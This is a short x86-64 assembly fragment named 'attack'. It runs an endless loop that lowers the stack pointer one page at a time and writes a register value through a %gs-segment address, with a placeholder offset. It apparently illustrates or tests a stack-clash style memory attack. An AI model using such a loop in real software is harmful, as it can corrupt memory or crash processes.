function attack
    lea -OFF(%rsp),%rdx
1:  lea -0x1000(%rsp),%rsp
    mov %rax,%gs:(%edx)
    jmp 1b
    ret
